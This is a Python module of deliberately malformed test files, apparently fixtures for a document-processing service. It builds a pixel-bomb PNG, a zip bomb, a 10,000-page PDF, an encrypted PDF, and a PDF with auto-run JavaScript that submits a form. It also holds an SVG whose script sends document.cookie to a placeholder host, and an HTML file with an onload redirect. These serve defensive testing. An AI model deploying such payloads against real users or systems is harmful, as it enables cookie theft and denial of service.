"""Files that are wrong on purpose, each harmless in size."""

import io
import struct
import zipfile
import zlib

import numpy

from pdfs import Paper


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def huge_png(side=50_000) -> bytes:
    """Its header promises 2.5 thousand million pixels; the rest of them is missing."""
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    row = b"\0" * (side * 3 + 1)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(row * 20, 9)) + chunk(b"IEND", b"")


def zip_bomb(megabytes=50) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bundle:
        bundle.writestr(zipfile.ZipInfo("zeros.txt", (2026, 11, 1, 0, 0, 0)), b"0" * (megabytes << 20), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption

    paper = Paper("Confidential", encrypt=StandardEncryption("only-the-sender-knows", strength=128))
    paper.line("Nobody reads this without the password.")
    return paper.end()[0]


def javascript_pdf() -> tuple:
    """A PDF that would open a window of its own; its text can be read all the same."""
    content = b"BT /F1 14 Tf 60 760 Td (A form that wants to say hello.) Tj ET"
    return assemble([
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/Names<</JavaScript<</Names[(hello) 6 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</S/JavaScript/JS(app.alert\\('hello from a PDF'\\); this.submitForm\\('https://example.invalid/'\\);)>>",
    ]), "A form that wants to say hello.\n"


def assemble(objects: list) -> bytes:
    out, offsets = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj" % number + body + b"endobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def many_pages(pages=10_000) -> bytes:
    """Ten thousand empty pages, packed into object streams of 500."""
    out, entries, first = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"), {0: (0, 0, 65535)}, 10
    streams = -(-pages // 500)
    leaves = first + streams
    kids = b" ".join(b"%d 0 R" % (leaves + page) for page in range(pages))
    for number, body in ((1, b"<</Type/Catalog/Pages 2 0 R>>"), (2, b"<</Type/Pages/Kids 3 0 R/Count %d>>" % pages)):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj" % number + body + b"endobj\n"
    bodies = {3: b"[" + kids + b"]"} | {leaves + page: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>" for page in range(pages)}
    numbers = list(bodies)
    for stream in range(streams):
        held = numbers[stream * 500 : (stream + 1) * 500] + (numbers[pages:] if stream == streams - 1 else [])
        index, content = b"", b""
        for place, number in enumerate(held):
            entries[number] = (2, first + stream, place)
            index += b"%d %d " % (number, len(content))
            content += bodies[number] + b"\n"
        packed = zlib.compress(index + content, 9)
        entries[first + stream] = (1, len(out), 0)
        out += b"%d 0 obj<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
            first + stream, len(held), len(index), len(packed)) + packed + b"\nendstream endobj\n"
    last, start = leaves + pages, len(out)
    entries[last] = (1, start, 0)
    table = b"".join(struct.pack(">BIH", *entries.get(number, (0, 0, 0))) for number in range(last + 1))
    packed = zlib.compress(table, 9)
    out += b"%d 0 obj<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % (last, last + 1, len(packed))
    return bytes(out + packed + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start)


def garbage(size=6000) -> bytes:
    """Bytes that are nothing at all."""
    return b"\x01\x02" + numpy.random.default_rng(3).bytes(size)


SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" onload="alert('svg')">
  <script>fetch('https://example.invalid/?' + document.cookie)</script>
  <text x="10" y="45">A drawing with a script</text>
</svg>
"""

HTML = """<!doctype html><html><head><title>A page in the inbox</title><script>alert('html')</script></head>
<body onload="location='https://example.invalid/'"><h1>A page in the inbox</h1><p>Served as a download, never run.</p></body></html>
"""
